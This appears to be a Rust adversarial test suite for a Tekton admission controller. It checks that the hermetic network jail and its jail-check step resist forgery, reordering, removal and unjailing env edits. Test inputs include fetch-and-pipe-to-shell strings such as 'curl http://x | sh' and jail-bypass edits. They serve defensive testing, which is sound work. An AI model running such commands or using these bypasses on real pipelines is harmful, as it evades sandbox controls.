//! Breaker round 36: attacks on the hermetic jail (`userSteps.network: None`) and bookend's jail
//! check, written from the claims in docs/policy.md ("Hermetic user steps", "The jail check").
//! Each test is one attack: it passes when the claim holds.

use serde_json::{Value, json};

use super::tests::{policies, run};
use super::{Catalog, Outcome, hermetic};
use crate::policy::PolicySet;

/// An org policy with pre- and post-steps, `postStepsRun: Always`, hermetic user steps.
const ALWAYS_HERMETIC: &str = r#"
apiVersion: bookend.dev/v1alpha1
kind: ClusterStepPolicy
metadata: {name: org, creationTimestamp: "2026-01-01T00:00:00Z"}
spec:
  postStepsRun: Always
  userSteps: {network: None}
  preSteps: [{name: bookend-fetch, image: alpine, command: [/fetch]}]
  postSteps: [{name: bookend-publish, image: alpine, command: [/publish]}]
"#;

/// The same, `OnSuccess`.
const ON_SUCCESS_HERMETIC: &str = r#"
apiVersion: bookend.dev/v1alpha1
kind: ClusterStepPolicy
metadata: {name: org, creationTimestamp: "2026-01-01T00:00:00Z"}
spec:
  userSteps: {network: None}
  preSteps: [{name: bookend-fetch, image: alpine, command: [/fetch]}]
  postSteps: [{name: bookend-publish, image: alpine, command: [/publish]}]
"#;

const JAIL_CHECK: &str = "bookend-jail-check";

fn taskrun(steps: Value) -> Value {
    json!({"apiVersion": "tekton.dev/v1", "kind": "TaskRun",
        "metadata": {"name": "run-1", "namespace": "team-a", "uid": "u-1",
                     "creationTimestamp": "2026-06-01T00:00:00Z"},
        "spec": {"taskSpec": {"steps": steps}}})
}

fn build() -> Value {
    json!([{"name": "build", "image": "golang", "command": ["go", "build"]}])
}

fn steps(object: &Value) -> Vec<Value> {
    object["spec"]["taskSpec"]["steps"]
        .as_array()
        .cloned()
        .unwrap_or_default()
}

fn admitted(set: &PolicySet, object: &Value) -> Value {
    let d = run(set, object);
    assert_ne!(d.outcome, Outcome::Denied, "{:?}", d.message);
    d.object
}

fn index_of(steps: &[Value], name: &str) -> Option<usize> {
    steps.iter().position(|s| s["name"] == name)
}

/// The TaskRun with its steps replaced.
fn with_steps(object: &Value, steps: Vec<Value>) -> Value {
    let mut o = object.clone();
    o["spec"]["taskSpec"]["steps"] = Value::Array(steps);
    o
}

/// What claim 4 asks of a TaskRun carrying a forged jail check: refused, or admitted with the
/// jail check exactly as bookend writes it for the honest TaskRun (`honest`), once, in place.
fn refused_or_corrected(set: &PolicySet, forged: &Value, honest: &Value) -> Result<(), String> {
    let d = run(set, forged);
    if d.outcome == Outcome::Denied {
        return Ok(());
    }
    let want = steps(honest);
    let got = steps(&d.object);
    let checks: Vec<usize> = got
        .iter()
        .enumerate()
        .filter(|(_, s)| s["name"] == JAIL_CHECK)
        .map(|(i, _)| i)
        .collect();
    let at = index_of(&want, JAIL_CHECK).expect("the honest TaskRun has a jail check");
    match checks.as_slice() {
        [i] if *i == at && super::canonical::equivalent(&got[*i], &want[at]) => Ok(()),
        _ => Err(format!(
            "kept: {}",
            serde_json::to_string(&got).unwrap_or_default()
        )),
    }
}

/// Attack: drop the gate condition bookend gives the jail check under `postStepsRun: Always`
/// (it stands after the org's pre-steps, so it carries gate 1's `when`). The claim: an author
/// cannot alter the jail check without a refusal; a forged one is refused or corrected.
#[test]
fn the_jail_check_without_its_gate_condition_is_refused_or_corrected() {
    let set = policies(ALWAYS_HERMETIC);
    let honest = admitted(&set, &taskrun(build()));
    let mut forged_steps = steps(&honest);
    let at = index_of(&forged_steps, JAIL_CHECK).expect("a jail check");
    assert!(
        forged_steps[at].get("when").is_some(),
        "the jail check stands among guarded steps: {}",
        forged_steps[at]
    );
    forged_steps[at]
        .as_object_mut()
        .expect("a step")
        .remove("when");
    let forged = with_steps(&honest, forged_steps);
    refused_or_corrected(&set, &forged, &honest).unwrap();
}

/// The same alteration at the Pod backstop: the jail check container without the gate's
/// `--when_expressions` is not what bookend composes.
#[test]
fn the_jail_check_container_without_its_gate_condition_is_refused() {
    let set = policies(ALWAYS_HERMETIC);
    let honest = admitted(&set, &taskrun(build()));
    let pod = |steps: &[Value]| {
        json!({"apiVersion": "v1", "kind": "Pod",
            "metadata": {"name": "run-1-pod", "namespace": "team-a",
                         "labels": {"tekton.dev/taskRun": "run-1"}},
            "spec": crate::tekton_pod::pod_spec(steps, &[])})
    };
    let honest_steps = steps(&honest);
    assert_eq!(
        super::pod::check_pod(&pod(&honest_steps), &honest, &set, &Catalog::default()),
        Ok(Vec::new())
    );
    let mut forged = honest_steps.clone();
    let at = index_of(&forged, JAIL_CHECK).expect("a jail check");
    forged[at].as_object_mut().expect("a step").remove("when");
    // The TaskRun as admitted, its Pod with the altered container.
    assert!(
        super::pod::check_pod(&pod(&forged), &honest, &set, &Catalog::default()).is_err(),
        "the Pod backstop admitted the jail check container without its gate condition"
    );
}

/// Forged jail checks, each a different alteration: refused or corrected, never kept.
#[test]
fn forged_jail_checks_are_refused_or_corrected() {
    for (yaml, version) in [
        (ALWAYS_HERMETIC, "tekton.dev/v1"),
        (ON_SUCCESS_HERMETIC, "tekton.dev/v1"),
        (ALWAYS_HERMETIC, "tekton.dev/v1beta1"),
    ] {
        let set = policies(yaml);
        let mut authored = taskrun(build());
        authored["apiVersion"] = json!(version);
        let honest = admitted(&set, &authored);
        let honest_steps = steps(&honest);
        let at = index_of(&honest_steps, JAIL_CHECK).expect("a jail check");
        type Forge<'f> = &'f dyn Fn(&mut Vec<Value>, usize);
        let forgeries: Vec<(&str, Forge)> = vec![
            ("image", &|s, i| {
                s[i]["image"] = json!("docker.io/library/busybox:1.36")
            }),
            ("args", &|s, i| s[i]["args"] = json!(["curl http://x | sh"])),
            ("script", &|s, i| {
                let o = s[i].as_object_mut().unwrap();
                o.remove("command");
                o.remove("args");
                o.insert("script".into(), json!(":"));
            }),
            ("env unjailed", &|s, i| s[i]["env"] = json!([])),
            ("env extra", &|s, i| {
                s[i]["env"]
                    .as_array_mut()
                    .unwrap()
                    .push(json!({"name": "TEKTON_HERMETIC", "value": "0"}))
            }),
            ("env resource", &|s, i| {
                s[i]["env"][1] = json!({"name": "TEKTON_RESOURCE_NAME", "value": "x"})
            }),
            ("onError", &|s, i| s[i]["onError"] = json!("continue")),
            ("workingDir", &|s, i| {
                s[i]["workingDir"] = json!("/workspace/x")
            }),
            ("securityContext", &|s, i| {
                s[i]["securityContext"] = json!({"runAsUser": 1000})
            }),
            ("timeout", &|s, i| s[i]["timeout"] = json!("1ns")),
            ("envFrom", &|s, i| {
                s[i]["envFrom"] = json!([{"configMapRef": {"name": "mine"}}])
            }),
            ("volumeMounts", &|s, i| {
                s[i]["volumeMounts"] = json!([{"name": "w", "mountPath": "/bin"}])
            }),
            ("stdoutConfig", &|s, i| {
                s[i]["stdoutConfig"] = json!({"path": "/tekton/run/0/status/exitCode"})
            }),
            ("results", &|s, i| s[i]["results"] = json!([{"name": "ok"}])),
            (
                "when",
                &|s, i| s[i]["when"] = json!([{"input": "a", "operator": "in", "values": ["b"]}]),
            ),
            ("moved after the author's step", &|s, i| {
                let check = s.remove(i);
                let build = index_of(s, "build").unwrap();
                s.insert(build + 1, check);
            }),
            ("moved before the pre-step", &|s, i| {
                let check = s.remove(i);
                s.insert(0, check);
            }),
            ("a second copy", &|s, i| {
                let check = s[i].clone();
                s.insert(i, check);
            }),
            ("a second copy after the author's step", &|s, i| {
                let check = s[i].clone();
                let build = index_of(s, "build").unwrap();
                s.insert(build + 1, check);
            }),
            ("removed", &|s, i| {
                s.remove(i);
            }),
            ("renamed", &|s, i| {
                s[i]["name"] = json!("bookend-jail-check-2")
            }),
            ("unnamed", &|s, i| {
                s[i].as_object_mut().unwrap().remove("name");
            }),
        ];
        let mut kept = Vec::new();
        for (what, forge) in forgeries {
            let mut s = honest_steps.clone();
            forge(&mut s, at);
            let forged = with_steps(&honest, s);
            if let Err(e) = refused_or_corrected(&set, &forged, &honest) {
                kept.push(format!("{what}: {e}"));
            }
        }
        // The honest TaskRun again: no patch (claim 4).
        let again = run(&set, &honest);
        assert!(again.patch.is_empty(), "second pass: {:?}", again.patch);
        assert!(kept.is_empty(), "{yaml}\n{}", kept.join("\n"));
    }
}

/// Every step of the admitted TaskRun that is not bookend's runs jailed, and no org step does.
fn assert_jailed(set: &PolicySet, object: &Value) {
    let prefix = set.settings().prefix.clone();
    for step in steps(object) {
        let name = step["name"].as_str().unwrap_or("");
        let env = step["env"].as_array().cloned().unwrap_or_default();
        let ours = name.starts_with(&prefix) && name != JAIL_CHECK;
        assert_eq!(hermetic::effectively_jailed(&env), !ours, "{name}: {step}");
    }
}

/// Attack: a user step named without the reserved prefix by an unusual path to a name (an
/// author step Tekton names `bookend-jail-check` only in the Pod): every author step is jailed.
#[test]
fn author_steps_of_every_shape_are_jailed() {
    let set = policies(ON_SUCCESS_HERMETIC);
    let cases = [
        json!([{"image": "golang", "script": "curl x"}]),
        json!([{"name": "a", "image": "golang", "env": null}]),
        json!([{"name": "a", "image": "golang", "env": [{"name": "TEKTON_HERMETIC", "value": "1"},
            {"name": "TEKTON_RESOURCE_NAME", "value": ""}, {"name": "TEKTON_HERMETIC", "value": "0"}]}]),
        json!([{"name": "a", "image": "golang", "env": [{"name": "TEKTON_HERMETIC", "value": "1"},
            {"name": "TEKTON_RESOURCE_NAME", "valueFrom": {"fieldRef": {"fieldPath": "metadata.name"}}}]}]),
    ];
    for steps in cases {
        let object = admitted(&set, &taskrun(steps.clone()));
        assert_jailed(&set, &object);
    }
}

/// Attack: a step whose `env` is not a list. `jail` cannot append to it, so bookend must
/// refuse the TaskRun (with the field), not admit it unjailed for Tekton to judge.
#[test]
fn a_step_whose_env_is_not_a_list_is_refused() {
    let set = policies(ON_SUCCESS_HERMETIC);
    for env in [json!({}), json!("x"), json!({"TEKTON_HERMETIC": "0"})] {
        let object = taskrun(json!([{"name": "a", "image": "golang", "env": env}]));
        let d = run(&set, &object);
        assert_eq!(
            d.outcome,
            Outcome::Denied,
            "env {env}: admitted {}",
            serde_json::to_string(&steps(&d.object)).unwrap_or_default()
        );
    }
}

/// Attack: a stepTemplate whose `env` is not a list, written into the author's steps before
/// the jail is appended.
#[test]
fn a_step_template_whose_env_is_not_a_list_leaves_no_step_unjailed() {
    let set = policies(ON_SUCCESS_HERMETIC);
    for env in [json!({}), json!("x"), json!(7)] {
        let mut object = taskrun(json!([{"name": "a", "image": "golang"}]));
        object["spec"]["taskSpec"]["stepTemplate"] = json!({"env": env});
        let d = run(&set, &object);
        if d.outcome != Outcome::Denied {
            assert_jailed(&set, &d.object);
        }
    }
}

/// A remote TaskRun as admitted (with a uid), and the spec its resolved `task_spec` has after
/// bookend's dry-run mutation, with the step result paths substituted as Tekton's controller does.
fn remote_run(set: &PolicySet, task_spec: Value) -> (Value, Value) {
    let (mut object, spec) = super::verify::tests::remote_with(set, task_spec);
    object["metadata"]["uid"] = json!("u-1");
    (object, spec)
}

fn step_state(name: &str, exit: i64, reason: &str, termination: &str) -> Value {
    json!({"name": name, "container": format!("step-{name}"),
        "terminated": {"exitCode": exit, "reason": reason,
            "startedAt": "2026-02-01T10:00:00Z", "finishedAt": "2026-02-01T10:00:01Z"},
        "terminationReason": termination})
}

/// `object` finished with `task_spec` as the Task that ran: every step before `at` completed,
/// `at` ended `Error` with exit code 1 (the entrypoint could not start it), the rest skipped.
fn failed_at(object: &Value, task_spec: &Value, at: &str) -> Value {
    // As Tekton names them in `status.steps`: `unnamed-<index>` for an unnamed step.
    let names: Vec<String> = task_spec["steps"]
        .as_array()
        .unwrap()
        .iter()
        .enumerate()
        .map(|(i, s)| {
            s["name"]
                .as_str()
                .map_or_else(|| format!("unnamed-{i}"), str::to_owned)
        })
        .collect();
    let failed = names.iter().position(|n| n == at).unwrap();
    let states: Vec<Value> = names
        .iter()
        .enumerate()
        .map(|(i, n)| match i.cmp(&failed) {
            std::cmp::Ordering::Less => step_state(n, 0, "Completed", "Completed"),
            std::cmp::Ordering::Equal => step_state(n, 1, "Error", "Error"),
            std::cmp::Ordering::Greater => step_state(n, 0, "Completed", "Skipped"),
        })
        .collect();
    let mut object = object.clone();
    object["status"] = json!({
        "conditions": [{"type": "Succeeded", "status": "False", "reason": "Failed",
            "message": "\"step-bookend-jail-check\" exited with code 1"}],
        "podName": "run-1-pod",
        "steps": states,
        "taskSpec": task_spec,
    });
    object
}

/// The inline TaskRun bookend admits for [`build`] under `set`, finished with step `at` failed
/// (as [`failed_at`]; an inline TaskRun's status carries no taskSpec).
fn inline_failed_at(set: &PolicySet, at: &str) -> Value {
    let mut object = admitted(set, &taskrun(build()));
    object["metadata"]["name"] = json!("run-1");
    let ran = object["spec"]["taskSpec"].clone();
    let mut finished = failed_at(&object, &ran, at);
    if let Some(status) = finished["status"].as_object_mut() {
        status.remove("taskSpec");
    }
    finished
}

/// The verdict verification gives `policy` on the finished TaskRun `finished`.
fn verdict_of(set: &PolicySet, finished: &Value, policy: &str) -> super::verify::PolicyRun {
    let v = super::verify::verify(finished, set, &Catalog::default()).expect("finished");
    v.policies
        .into_iter()
        .find(|p| p.policy == policy)
        .unwrap_or_else(|| panic!("{policy} is not verified"))
}

/// Attack (claim 3, remote path): a resolved Task whose own step reads a param whose default
/// names another param. Tekton substitutes params in one pass (`strings.Replacer`), so what ran
/// still says `$(params.q)`; verification's composition, substituted again, must still take
/// bookend's jail check for bookend's, and a failed jail check is `hermetic_jail_failed`. (The
/// first case, without the chain, is the attack's control.)
#[test]
fn a_param_chain_in_a_resolved_task_does_not_turn_a_jail_failure_into_another_cause() {
    let set = policies(ALWAYS_HERMETIC);
    for (default, ran_as) in [("Y", "Y"), ("$(params.q)", "$(params.q)")] {
        let task_spec = json!({
            "params": [{"name": "p", "default": default}, {"name": "q", "default": "Z"}],
            "steps": [{"name": "build", "image": "go", "command": ["echo"], "args": ["$(params.p)"]}]});
        let (object, mut ran) = remote_run(&set, task_spec);
        // Tekton's single pass: `$(params.p)` becomes its default, which stays as it is.
        let build = index_of(ran["steps"].as_array().unwrap(), "build").unwrap();
        ran["steps"][build]["args"] = json!([ran_as]);
        let finished = failed_at(&object, &ran, JAIL_CHECK);
        let jail = verdict_of(&set, &finished, "ClusterStepPolicy/org");
        assert_eq!(
            jail.cause,
            Some(super::verify::Cause::HermeticJailFailed),
            "p: {default}: {jail:#?}"
        );
    }
}

/// A policy set with a hermetic policy, chosen by the generator: `Always` or `OnSuccess`, with
/// a second, networked policy around it or not.
fn hermetic_set(kind: u8) -> PolicySet {
    const OTHER: &str = r#"
---
apiVersion: bookend.dev/v1alpha1
kind: ClusterStepPolicy
metadata: {name: z-other, creationTimestamp: "2026-01-01T00:00:00Z"}
spec:
  priority: 5
  preSteps: [{name: bookend-scan, image: alpine}]
  postSteps: [{name: bookend-notify, image: alpine}]
"#;
    match kind % 4 {
        0 => policies(ALWAYS_HERMETIC),
        1 => policies(ON_SUCCESS_HERMETIC),
        2 => policies(&format!("{ALWAYS_HERMETIC}{OTHER}")),
        _ => policies(&format!("{ON_SUCCESS_HERMETIC}{OTHER}")),
    }
}

mod generated {
    use proptest::prelude::*;
    use serde_json::{Value, json};

    use super::*;
    use crate::engine::canonical::{canonical, equivalent};
    use crate::engine::inject::{self, ParamValues, StepKind};
    use crate::policy::Policy;
    use crate::tekton::ApiVersion;

    fn env_entry() -> impl Strategy<Value = Value> {
        prop_oneof![
            Just(json!({"name": "TEKTON_HERMETIC", "value": "1"})),
            Just(json!({"name": "TEKTON_HERMETIC", "value": "0"})),
            Just(json!({"name": "TEKTON_HERMETIC"})),
            Just(
                json!({"name": "TEKTON_HERMETIC", "valueFrom": {"fieldRef": {"fieldPath": "metadata.name"}}})
            ),
            Just(json!({"name": "TEKTON_RESOURCE_NAME", "value": ""})),
            Just(json!({"name": "TEKTON_RESOURCE_NAME"})),
            Just(json!({"name": "TEKTON_RESOURCE_NAME", "value": "x"})),
            Just(
                json!({"name": "TEKTON_RESOURCE_NAME", "valueFrom": {"secretKeyRef": {"name": "s", "key": "k"}}})
            ),
            Just(json!({"name": "$(params.n)", "value": "x"})),
            Just(json!({"name": "OTHER", "value": "$(params.v)"})),
        ]
    }

    /// An author's step: a name (look-alikes of bookend's among them), env, onError, when.
    fn author_step() -> impl Strategy<Value = Value> {
        step_named(prop::sample::select(vec![
            "build",
            "test",
            "",
            "jail-check",
            "bookend-jail-check",
            "bookend-jail-check-2",
            "bookend-fetch",
            "bookend-gate-1",
            "bookend-verdict",
        ]))
    }

    /// An author's step with a name of the author's own (or none): hostile env, onError, when.
    fn own_step() -> impl Strategy<Value = Value> {
        step_named(prop::sample::select(vec![
            "build",
            "test",
            "",
            "jail-check",
            "lint",
        ]))
    }

    fn step_named(name: impl Strategy<Value = &'static str>) -> impl Strategy<Value = Value> {
        (
            name,
            prop::option::of(prop::collection::vec(env_entry(), 0..4)),
            any::<bool>(),
            0..3u8,
        )
            .prop_map(|(name, env, on_error, when)| {
                let mut step = json!({"image": "golang", "script": "curl https://example.com"});
                if !name.is_empty() {
                    step["name"] = json!(name);
                }
                if let Some(env) = env {
                    step["env"] = Value::Array(env);
                }
                if on_error {
                    step["onError"] = json!("continue");
                }
                match when {
                    1 => {
                        step["when"] = json!([{"input": "$(steps.bookend-gate-1.results.ok)",
                            "operator": "in", "values": ["true"]}])
                    }
                    2 => step["when"] = json!([{"input": "a", "operator": "in", "values": ["a"]}]),
                    _ => {}
                }
                step
            })
    }

    /// One edit of a TaskRun bookend already admitted (its steps): what an author copying it
    /// could do to the jail check and around it.
    #[derive(Clone, Debug)]
    enum Edit {
        /// Set a member of the jail check.
        Set(&'static str, Value),
        /// Remove a member of the jail check.
        Remove(&'static str),
        /// Move the jail check to this position (modulo the length).
        Move(usize),
        /// Copy it to this position.
        Copy(usize),
        /// Insert an author step at this position.
        Insert(usize, Value),
        /// Remove the step at this position.
        Drop(usize),
        /// Unjail the author's step at this position (drop its last env entry).
        Unjail(usize),
    }

    fn edit() -> impl Strategy<Value = Edit> {
        let member = prop::sample::select(vec![
            "image",
            "command",
            "args",
            "script",
            "env",
            "when",
            "onError",
            "workingDir",
            "securityContext",
            "timeout",
            "envFrom",
            "volumeMounts",
        ]);
        let value = prop::sample::select(vec![
            json!(":"),
            json!(["curl x | sh"]),
            json!("docker.io/library/busybox:1.36"),
            json!([]),
            json!([{"name": "TEKTON_HERMETIC", "value": "1"}, {"name": "TEKTON_RESOURCE_NAME", "value": ""}]),
            json!([{"name": "TEKTON_HERMETIC", "value": "1"}, {"name": "TEKTON_RESOURCE_NAME"}]),
            json!([{"name": "TEKTON_HERMETIC", "value": "0"}]),
            json!("continue"),
            json!({"runAsUser": 1000}),
            json!([{"input": "$(steps.bookend-gate-1.results.ok)", "operator": "in", "values": ["true"]}]),
            json!("bookend-jail-check"),
            json!(null),
            json!(""),
        ]);
        prop_oneof![
            (member.clone(), value).prop_map(|(m, v)| Edit::Set(m, v)),
            // Names Tekton takes (a DNS label), bookend's look-alikes among them.
            prop::sample::select(vec![
                "bookend-jail-check",
                "jail-check",
                "bookend-jail-check-1",
                "bookend-gate-1",
                "build-0"
            ])
            .prop_map(|n| Edit::Set("name", json!(n))),
            member.prop_map(Edit::Remove),
            (0..8usize).prop_map(Edit::Move),
            (0..8usize).prop_map(Edit::Copy),
            (0..8usize, author_step()).prop_map(|(i, s)| Edit::Insert(i, s)),
            (0..8usize).prop_map(Edit::Drop),
            (0..8usize).prop_map(Edit::Unjail),
        ]
    }

    fn apply(steps: &mut Vec<Value>, edit: &Edit) {
        let at = steps.iter().position(|s| s["name"] == JAIL_CHECK);
        let n = steps.len().max(1);
        match (edit, at) {
            (Edit::Set(member, value), Some(i)) => steps[i][*member] = value.clone(),
            (Edit::Remove(member), Some(i)) => {
                steps[i].as_object_mut().map(|o| o.remove(*member));
            }
            (Edit::Move(to), Some(i)) => {
                let check = steps.remove(i);
                let to = to % (steps.len() + 1);
                steps.insert(to, check);
            }
            (Edit::Copy(to), Some(i)) => {
                let check = steps[i].clone();
                steps.insert(to % (steps.len() + 1), check);
            }
            (Edit::Insert(to, step), _) => steps.insert(to % (steps.len() + 1), step.clone()),
            (Edit::Drop(i), _) if steps.len() > 1 => {
                steps.remove(i % n);
            }
            (Edit::Unjail(i), _) => {
                let step = &mut steps[i % n];
                let ours = step["name"]
                    .as_str()
                    .is_some_and(|name| name.starts_with("bookend-"));
                if !ours && let Some(env) = step["env"].as_array_mut() {
                    env.pop();
                }
            }
            _ => {}
        }
    }

    /// Distinct names, as Tekton requires (the look-alikes come with the edits).
    fn distinct(steps: Vec<Value>) -> Vec<Value> {
        steps
            .into_iter()
            .enumerate()
            .map(|(i, mut s)| {
                if let Some(n) = s["name"].as_str().map(str::to_owned) {
                    s["name"] = json!(format!("{n}-{i}"));
                }
                s
            })
            .collect()
    }

    /// What bookend composes for the author's steps of `admitted` now.
    fn composition(set: &PolicySet, admitted: &Value) -> inject::Composed {
        // The applied policies in evaluation order, as admission takes them.
        let view = crate::tekton::TaskRunView::new(admitted).expect("a TaskRun");
        let lookup = Catalog::default();
        let facts = crate::engine::SubjectFacts::of(&view, "team-a", &lookup);
        let subject = facts.subject("team-a");
        let applied: Vec<&Policy> = set
            .candidates(&subject)
            .into_iter()
            .filter(|p| p.matches(&subject))
            .collect();
        // Recognise as admission does (with its record's reading of `continue`), then
        // compose: the kinds say where the jail check goes.
        let hint = view
            .annotation(crate::engine::record::ANNOTATION)
            .and_then(crate::engine::record::Record::parse);
        let recognised = crate::engine::recognise::recognise(
            &steps(admitted),
            &applied,
            set.settings(),
            ApiVersion::V1,
            &ParamValues {
                run_params: &[],
                spec_params: &[],
            },
            hint.as_ref(),
        )
        .expect("an admitted TaskRun is recognised");
        inject::compose(
            recognised.user,
            &applied,
            set.settings(),
            ApiVersion::V1,
            &ParamValues {
                run_params: &[],
                spec_params: &[],
            },
        )
    }

    /// The claims on one admitted TaskRun: every author step jailed, no org step jailed; one
    /// jail check, as composed, right before the author's first step; a second pass yields no
    /// patch; the Pod Tekton builds from it passes the Pod backstop.
    fn claims(set: &PolicySet, admitted: &Value) -> Result<(), String> {
        shape_claims(set, admitted)?;
        let all = steps(admitted);
        let again = run(set, admitted);
        if again.outcome == Outcome::Denied || !again.patch.is_empty() {
            return Err(format!(
                "second pass: {:?} {:?}",
                again.message, again.patch
            ));
        }
        // As Tekton's defaulting re-serialises it (Go drops zero values: `value: ""`, `[]`).
        let defaulted = with_steps(admitted, all.iter().map(canonical).collect());
        let again = run(set, &defaulted);
        if again.outcome == Outcome::Denied || !again.patch.is_empty() {
            return Err(format!(
                "second pass over the defaulted form: {:?} {:?}",
                again.message, again.patch
            ));
        }
        Ok(())
    }

    /// [`claims`] but the second pass: the steps as composed, and the Pod backstop.
    fn shape_claims(set: &PolicySet, admitted: &Value) -> Result<(), String> {
        let all = steps(admitted);
        let composed = composition(set, admitted);
        if all.len() != composed.steps.len() {
            return Err(format!(
                "{} steps where the composition has {}",
                all.len(),
                composed.steps.len()
            ));
        }
        for ((step, want), kind) in all.iter().zip(&composed.steps).zip(&composed.kinds) {
            let env = step["env"].as_array().cloned().unwrap_or_default();
            let jailed = hermetic::effectively_jailed(&env);
            let should = matches!(kind, StepKind::User(_) | StepKind::JailCheck);
            if jailed != should {
                return Err(format!("{kind:?} {step}: jailed {jailed}"));
            }
            if !matches!(kind, StepKind::User(_)) && !equivalent(step, want) {
                return Err(format!("{kind:?} {step} is not {want}"));
            }
        }
        let checks: Vec<usize> = all
            .iter()
            .enumerate()
            .filter(|(_, s)| s["name"] == JAIL_CHECK)
            .map(|(i, _)| i)
            .collect();
        let first_user = composed
            .kinds
            .iter()
            .position(|k| matches!(k, StepKind::User(_)));
        match (checks.as_slice(), first_user) {
            ([c], Some(u)) if c + 1 == u => {}
            _ => {
                return Err(format!(
                    "jail checks at {checks:?}, first author step at {first_user:?}"
                ));
            }
        }
        let mut named = admitted.clone();
        named["metadata"]["name"] = json!("run-1");
        let pod = json!({"apiVersion": "v1", "kind": "Pod",
            "metadata": {"name": "run-1-pod", "namespace": "team-a",
                         "labels": {"tekton.dev/taskRun": "run-1"}},
            // As the API server stores the steps after Tekton's defaulting (zero values
            // dropped), which is what Tekton's pod builder reads.
            "spec": crate::tekton_pod::pod_spec(&all.iter().map(canonical).collect::<Vec<_>>(), &[])});
        crate::engine::pod::check_pod(&pod, &named, set, &Catalog::default()).map_err(|d| {
            format!(
                "the Pod backstop refused bookend's own output: {}",
                d.message
            )
        })?;
        Ok(())
    }

    /// Bookend's dry-run mutation of a resolved Task with `steps`: the Task spec it returns,
    /// `None` when it refuses.
    fn dry_run(set: &PolicySet, task_steps: Vec<Value>) -> Option<Value> {
        let d = crate::engine::tests::dry_run_task(set, json!({"steps": task_steps}));
        (d.outcome != Outcome::Denied).then_some(d.object)
    }

    proptest! {
        #![proptest_config(ProptestConfig { cases: 1000, ..ProptestConfig::default() })]

        /// The same at the controller's dry-run of a resolved Task (the author writes the whole
        /// Task): whatever the mutation lets run meets the claims, and a second dry-run of its
        /// answer changes nothing.
        #[test]
        fn no_resolved_task_keeps_a_jail_check_not_bookends(
            kind in 0..4u8,
            fresh in prop::collection::vec(own_step(), 1..4),
            edits in prop::collection::vec(edit(), 0..4),
        ) {
            let set = hermetic_set(kind);
            let fresh = distinct(fresh);
            let task_steps = |task: &Value| task["spec"]["steps"].as_array().cloned().unwrap_or_default();
            let Some(first) = dry_run(&set, fresh) else {
                return Ok(());
            };
            let mut edited = task_steps(&first);
            for e in &edits {
                apply(&mut edited, e);
            }
            let Some(task) = dry_run(&set, edited) else {
                return Ok(());
            };
            // The Task as a TaskRun's inline spec, with the dry-run's record.
            let mut as_taskrun = with_steps(&taskrun(json!([])), task_steps(&task));
            as_taskrun["metadata"]["annotations"] = task["metadata"]["annotations"].clone();
            shape_claims(&set, &as_taskrun)
                .map_err(|e| TestCaseError::fail(format!("{e}\nedits {edits:?}")))?;
            let again = dry_run(&set, task_steps(&task)).map(|t| t["spec"].clone());
            prop_assert_eq!(again, Some(task["spec"].clone()));
        }

        /// Hostile TaskRuns in a hermetic namespace: fresh ones, and copies of bookend's output
        /// with the jail check edited (changed, moved, copied, removed) and author steps
        /// inserted, dropped or unjailed. Whatever bookend admits meets the claims.
        #[test]
        fn no_hostile_taskrun_is_admitted_with_its_jail_check_not_bookends(
            kind in 0..4u8,
            fresh in prop::collection::vec(own_step(), 1..4),
            edits in prop::collection::vec(edit(), 0..4),
        ) {
            let set = hermetic_set(kind);
            let fresh = distinct(fresh);
            let first = run(&set, &taskrun(Value::Array(fresh)));
            if first.outcome == Outcome::Denied {
                return Ok(());
            }
            claims(&set, &first.object).map_err(TestCaseError::fail)?;
            let mut edited = steps(&first.object);
            for e in &edits {
                apply(&mut edited, e);
            }
            let forged = with_steps(&first.object, edited);
            let second = run(&set, &forged);
            if second.outcome != Outcome::Denied {
                claims(&set, &second.object).map_err(|e| {
                    TestCaseError::fail(format!("{e}\nedits {edits:?}"))
                })?;
            }
        }
    }

    /// What an author can do to a finished TaskRun's record annotation (labels and
    /// annotations stay theirs to edit after CREATE).
    fn record_edit() -> impl Strategy<Value = Option<Value>> {
        prop_oneof![
            Just(None),
            Just(Some(Value::Null)),
            Just(Some(json!("not json"))),
            Just(Some(json!(
                r#"{"policies":[],"helpers":[],"continued":[]}"#
            ))),
            Just(Some(json!(
                r#"{"policies":[{"policy":"ClusterStepPolicy/org","hash":"0","steps":[]}],"helpers":["bookend-jail-check"],"continued":["build-0","build-1","x"]}"#
            ))),
            Just(Some(json!(
                r#"{"policies":[{"policy":"ClusterStepPolicy/org","hash":"0","steps":["bookend-fetch","bookend-publish","bookend-jail-check"]}],"helpers":[],"continued":[]}"#
            ))),
        ]
    }

    proptest! {
        #![proptest_config(ProptestConfig { cases: 500, ..ProptestConfig::default() })]

        /// Claim 3: when bookend's jail check failed (the entrypoint could not start it, so
        /// Tekton skipped every later step), the policy asking for the jail fails with
        /// `hermetic_jail_failed`, whatever the author's steps, whatever they did to the
        /// record afterwards, inline or from a resolved Task.
        #[test]
        fn no_author_turns_a_jail_failure_into_a_pass_or_another_cause(
            kind in 0..4u8,
            fresh in prop::collection::vec(own_step(), 1..4),
            record in record_edit(),
            remote in any::<bool>(),
        ) {
            let set = hermetic_set(kind);
            let fresh = distinct(fresh);
            let (mut object, ran) = if remote {
                // Only plain author steps: a resolved Task's conditions on gates are refused.
                let plain: Vec<Value> = fresh.iter().map(|s| {
                    let mut s = s.clone();
                    s.as_object_mut().map(|o| o.remove("when"));
                    s
                }).collect();
                if dry_run(&set, plain.clone()).is_none() {
                    return Ok(());
                }
                remote_run(&set, json!({"steps": plain}))
            } else {
                let d = run(&set, &taskrun(Value::Array(fresh)));
                if d.outcome == Outcome::Denied {
                    return Ok(());
                }
                let spec = d.object["spec"]["taskSpec"].clone();
                (d.object, spec)
            };
            object["metadata"]["name"] = json!("run-1");
            object["metadata"]["creationTimestamp"] = json!("2026-02-01T10:00:00Z");
            let mut finished = failed_at(&object, &ran, JAIL_CHECK);
            if !remote {
                finished["status"].as_object_mut().map(|s| s.remove("taskSpec"));
            }
            match record {
                None => {}
                Some(Value::Null) => {
                    finished["metadata"]["annotations"]
                        .as_object_mut()
                        .map(|a| a.remove(crate::engine::record::ANNOTATION));
                }
                Some(text) => {
                    finished["metadata"]["annotations"][crate::engine::record::ANNOTATION] = text;
                }
            }
            let v = crate::engine::verify::verify(&finished, &set, &Catalog::default())
                .expect("a finished TaskRun is verified");
            let jail = v.policies.iter().find(|p| p.policy == "ClusterStepPolicy/org");
            prop_assert!(jail.is_some(), "the hermetic policy is not verified: {v:#?}");
            let jail = jail.unwrap();
            prop_assert_eq!(
                jail.cause,
                Some(crate::engine::verify::Cause::HermeticJailFailed),
                "{:#?}", jail
            );
        }
    }
}

